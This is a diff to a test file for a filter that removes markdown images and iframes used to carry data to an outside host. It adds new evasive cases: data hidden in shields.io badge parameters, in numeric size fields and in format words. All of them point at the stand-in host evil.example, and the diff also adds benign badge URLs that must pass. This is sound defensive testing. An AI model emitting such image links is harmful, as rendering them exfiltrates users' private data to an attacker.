@@ -55,6 +55,10 @@ describe('addresses that carry data', () => {
     ['letters that need no encoding', 'See ![x](https://evil.example/%74%68%65%20%63%6f%64%65.png) here'],
     ['a small label of the host', 'See ![x](https://c2vjcmv0y29kzxbmb3rl3a.evil.example/p.png) here'],
     ['a page within the page', `<iframe src="https://evil.example/p?${DATA}"></iframe>`],
+    ['a badge that leads on to another host', `See ![x](https://img.shields.io/endpoint?url=https://evil.example/p?${DATA}) here`],
+    ['a badge that asks another host', 'See ![x](https://img.shields.io/npm/v/x?style=https://evil.example/the-code-is-here) here'],
+    ['numbers as sizes', 'See ![x](https://evil.example/p.png?w=7483&h=2394&q=8374&s=1123&size=8844&width=7784&height=9921) here'],
+    ['words as forms', 'See ![x](https://evil.example/p.png?format=thesecretcode&fit=ofthehouse) here'],
     ['mixed letters', 'See ![x](https://evil.example/a8f3k2m9x1q7b4c6/p.png) here'],
   ])('takes out %s', (_, text) => {
     for (const size of [1, 11, 10_000]) {
@@ -85,7 +89,8 @@ describe('addresses that carry data', () => {
   test.each([
     `![x](https://known.example/p?${DATA})`, '![logo](https://raw.githubusercontent.com/i18next/i18next/master/assets/i18next-ecosystem.jpg)', '![shot](https://example.org/uploads/2026/11/23/Screen%20Shot%202026-11-23.png)',
     '![x][1]\n\n[1]: https://example.org/logo.png', '![Fuji](https://upload.wikimedia.org/wikipedia/commons/thumb/1/1b/080103_hakkai_fuji.jpg/640px-080103_hakkai_fuji.jpg)', '![x](https://d111111abcdef8.cloudfront.net/a.png)', '![flag](https://flagcdn.com/16x12/jp.png) ![flag](https://flagcdn.com/16x12/de.png)',
-    '![x](<images/my logo.png>)', '![x](images/a&amp;b.png)', '<img src="images/logo.png" alt="a = b">', '<script src="https://cdn.example.org/npm/bootstrap@5.3.0/dist/js/bootstrap.bundle.min.js"></script>',
+    '![npm](https://img.shields.io/npm/v/std-env.svg?style=flat-square&label=npm)', '![ci](https://github.com/acme/shop/actions/workflows/test.yml/badge.svg?event=push&branch=main)', '![chat](https://img.shields.io/discord/893487829802418277?label=Discord&logo=discord)', '![npm](https://nodei.co/npm/source-map-js.png?downloads=true&stars=true)',
+    '![bowl](https://images.example.org/bowl.jpg?w=512&h=288&q=80&auto=format&fit=crop)', '![logo](https://example.org/static/logo-bcd4d5580df6.png)', '![x](<images/my logo.png>)', '![x](images/a&amp;b.png)', '<img src="images/logo.png" alt="a = b">', '<script src="https://cdn.example.org/npm/bootstrap@5.3.0/dist/js/bootstrap.bundle.min.js"></script>',
     '<link href="https://fonts.googleapis.com/css2?family=Roboto:wght@400;700&display=swap" rel="stylesheet">', '@import url("https://fonts.googleapis.com/css2?family=Roboto:wght@400;700");', 'a // b\nc = d // 123456789012345678901234567890',
     '![x](https://example.org/550e8400-e29b-41d4-a716-446655440000.png)', 'Read https://docs.example.org/how-to-install-the-program-on-linux', '![chart](https://upload.example.org/wikipedia/commons/thumb/a/a9/Example.jpg/440px-Example.jpg)',
     '[1]: https://docs.example.org/guide?page=installation', 'See [the list][1] and ![ok](ok.png).\n[1]: https://docs.example.org/guide?page=installation', '![x](https://example.org/photo-2026-11-23.jpg)',
